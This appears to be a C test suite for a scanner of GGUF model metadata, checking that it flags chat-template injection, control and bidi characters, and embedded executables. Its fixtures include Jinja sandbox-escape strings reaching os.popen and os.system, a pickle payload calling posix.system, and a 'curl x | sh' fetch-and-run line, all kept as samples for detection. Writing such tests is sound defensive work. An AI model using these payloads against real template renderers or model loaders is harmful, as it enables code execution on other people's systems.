/*
 * test_metascan.c — chat-template injection, string hygiene and embedded payloads in GGUF
 * metadata and after the tensor data, each with its reason id; no false positives on benign
 * templates, random bytes or the reference models.
 *
 * Owns: fixtures generated at test time (gguf_writer buffers, payload headers built here).
 * Never: writes outside memory, runs or renders anything it builds.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "../lib/testutil.h"
#include "buf.h"
#include "gguf/gguf.h"
#include "gguf/gguf_write.h"
#include "scan/metascan.h"

/* Builds a one-tensor GGUF with key=value (string) and trailing bytes; scans its metadata. */
static void scan_kv(struct scan_report *r, const char *key, const char *value, size_t vlen,
		    const void *trail, size_t tlen, const uint8_t *u8arr, size_t alen)
{
	struct gguf_writer *w = gguf_writer_new();
	struct buf out = BUF_INIT;
	struct gguf_file *f = NULL;
	uint64_t ne[1] = {32};
	static float x[32];

	gguf_writer_add_str(w, "general.architecture", "secaitest");
	if (key && value)
		assert_int_equal(gguf_writer_add_strn(w, key, value, vlen), 0);
	if (u8arr)
		assert_int_equal(gguf_writer_add_array(w, "secaitest.blob", GGUF_TYPE_UINT8, u8arr,
						       alen),
				 0);
	assert_int_equal(gguf_writer_add_tensor(w, "t.weight", GGUF_GGML_F32, 1, ne, x), 0);
	assert_int_equal(gguf_writer_to_buf(w, &out), 0);
	gguf_writer_free(w);
	if (trail)
		buf_append(&out, trail, tlen);
	gguf_open_buffer_ex(out.data, out.len, GGUF_OPEN_KEEP_INVALID, &f, NULL);
	assert_non_null(f);
	scan_report_init(r);
	assert_true(metascan_gguf(f, NULL, r, "fixture.gguf") >= 0);
	gguf_close(f);
	buf_free(&out);
}

static void expect(const char *key, const char *value, const char *reason)
{
	struct scan_report r;
	scan_kv(&r, key, value, strlen(value), NULL, 0, NULL, 0);
	if (reason == NULL ? r.n != 0 : !scan_report_has(&r, reason, key))
		scan_report_print(&r, stdout);
	if (reason)
		assert_true(scan_report_has(&r, reason, key));
	else
		assert_int_equal(r.n, 0);
	scan_report_free(&r);
}

static void test_templates(void **state)
{
	static const char *const bad[] = {
	    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
	    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
	    "{{ self._TemplateReference__context.joiner.__init__.__globals__ }}",
	    "{{ lipsum.__globals__['os'].system('sh') }}",
	    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
	    "{% for m in messages %}{{ os.environ }}{% endfor %}",
	    "{{ __import__('subprocess') }}",
	    "{% include 'other.j2' %}",
	};
	const char *benign =
	    "{% for message in messages %}{% if message['role'] == 'user' %}{{ '[INST] ' + "
	    "message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ "
	    "message['content'] + eos_token }}{% endif %}{% endfor %}{# photos. pos. #}";
	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		expect("tokenizer.chat_template", bad[i], "meta.template_injection");
	expect("tokenizer.chat_template.tool_use", bad[0], "meta.template_injection");
	expect("tokenizer.chat_template", benign, NULL);
	/* Outside a template, the same words are only text. */
	expect("general.description", "see __class__ docs", NULL);
}

static void test_strings(void **state)
{
	struct metascan_limits l = {.string_max = 64, .template_max = 32};
	struct scan_report r;
	char big[100];

	(void)state;
	expect("general.name", "tiny\x1b[31mred", "meta.control_chars");
	expect("general.name", "evil\xe2\x80\xaeright-to-left", "meta.bidi_chars");
	expect("general.name", "line1\nline2\ttab", NULL);
	memset(big, 'a', sizeof(big));
	scan_report_init(&r);
	metascan_string("general.license", big, sizeof(big), 0, 0, &l, &r, "f");
	assert_true(scan_report_has(&r, "meta.string_oversized", "general.license"));
	scan_report_free(&r);
	scan_report_init(&r);
	metascan_string("tokenizer.chat_template", big, 40, 0, 0, &l, &r, "f");
	assert_true(scan_report_has(&r, "meta.template_oversized", NULL));
	scan_report_free(&r);
}

static size_t elf(uint8_t *p)
{
	memset(p, 0, 64);
	memcpy(p, "\x7f" "ELF\x02\x01\x01", 7);
	return 64;
}

static size_t pe(uint8_t *p)
{
	memset(p, 0, 128);
	p[0] = 'M';
	p[1] = 'Z';
	p[0x3c] = 0x40;
	memcpy(p + 0x40, "PE\0\0", 4);
	return 128;
}

static size_t zip(uint8_t *p)
{
	memset(p, 0, 40);
	memcpy(p, "PK\x03\x04\x14\x00\x00\x00\x08\x00", 10);
	p[26] = 8;
	memcpy(p + 30, "data.pkl", 8);
	return 40;
}

static size_t pickle(uint8_t *p)
{
	static const char pk[] = "\x80\x02" "cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85R.";
	memcpy(p, pk, sizeof(pk) - 1);
	return sizeof(pk) - 1;
}

static size_t macho(uint8_t *p)
{
	memset(p, 0, 32);
	memcpy(p, "\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00", 16);
	return 32;
}

static void test_payloads(void **state)
{
	static const struct {
		size_t (*make)(uint8_t *);
		const char *reason;
	} kinds[] = {{elf, "payload.elf"},     {pe, "payload.pe"},	   {zip, "payload.zip"},
		     {pickle, "payload.pickle"}, {macho, "payload.macho"}};
	uint8_t buf[256];
	struct scan_report r;

	(void)state;
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		size_t n;
		memset(buf, 0, sizeof(buf));
		n = kinds[i].make(buf + 16);
		/* After the tensor data (a polyglot tail). */
		scan_kv(&r, NULL, NULL, 0, buf, n + 16, NULL, 0);
		if (!scan_report_has(&r, kinds[i].reason, "after tensor data"))
			scan_report_print(&r, stdout);
		assert_true(scan_report_has(&r, kinds[i].reason, "after tensor data"));
		scan_report_free(&r);
		/* Inside a u8 metadata array. */
		scan_kv(&r, NULL, NULL, 0, NULL, 0, buf, n + 16);
		assert_true(scan_report_has(&r, kinds[i].reason, "secaitest.blob"));
		scan_report_free(&r);
	}
	expect("general.notes", "#!/bin/sh\ncurl x | sh", "payload.script");
	expect("general.notes", "weights: gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
	       "payload.base64");
	expect("general.notes", "ELF: f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA", "payload.base64");
	/* A clean file has no tail findings. */
	scan_kv(&r, NULL, NULL, 0, NULL, 0, NULL, 0);
	assert_int_equal(r.n, 0);
	scan_report_free(&r);
}

static void test_random_bytes(void **state)
{
	size_t n = 8u << 20;
	uint8_t *d = malloc(n);
	uint64_t x = 0x243F6A8885A308D3ull;
	struct scan_report r;

	(void)state;
	for (size_t i = 0; i < n; i += 8) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		memcpy(d + i, &x, 8);
	}
	scan_report_init(&r);
	if (scan_payloads(d, n, 0, "random", &r, "f") != 0)
		scan_report_print(&r, stdout);
	assert_int_equal(r.n, 0);
	scan_report_free(&r);
	free(d);
}

static void test_reference_models(void **state)
{
	const char *shared = test_shared_dir();
	char cmd[PATH_MAX + 64], line[PATH_MAX];
	FILE *p;

	(void)state;
	if (shared == NULL) {
		printf("SKIP: reference models (SECAI_SHARED not found)\n");
		skip();
	}
	snprintf(cmd, sizeof(cmd), "ls %s/llamacpp-ref/models/*.gguf 2>/dev/null", shared);
	p = popen(cmd, "r");
	while (p && fgets(line, sizeof(line), p)) {
		struct gguf_file *f;
		struct scan_report r;
		line[strcspn(line, "\n")] = '\0';
		assert_int_equal(gguf_open(line, &f, NULL), 0);
		scan_report_init(&r);
		assert_int_equal(metascan_gguf(f, NULL, &r, line), 0);
		if (r.n)
			scan_report_print(&r, stdout);
		assert_int_equal(r.n, 0);
		scan_report_free(&r);
		gguf_close(f);
	}
	if (p)
		pclose(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_templates),	 cmocka_unit_test(test_strings),
	    cmocka_unit_test(test_payloads),	 cmocka_unit_test(test_random_bytes),
	    cmocka_unit_test(test_reference_models),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
